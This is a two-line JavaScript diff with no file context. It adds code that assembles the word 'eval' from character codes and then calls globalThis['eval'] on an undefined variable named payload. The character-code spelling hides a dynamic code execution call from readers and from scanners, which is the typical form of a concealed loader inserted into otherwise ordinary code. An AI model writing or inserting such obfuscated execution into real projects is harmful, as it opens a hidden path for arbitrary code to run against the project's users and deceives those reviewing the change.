@@ -1,0 +1,2 @@
+const n = [101, 118, 97, 108].map((c) => String.fromCharCode(c)).join('');
+globalThis[n](payload);
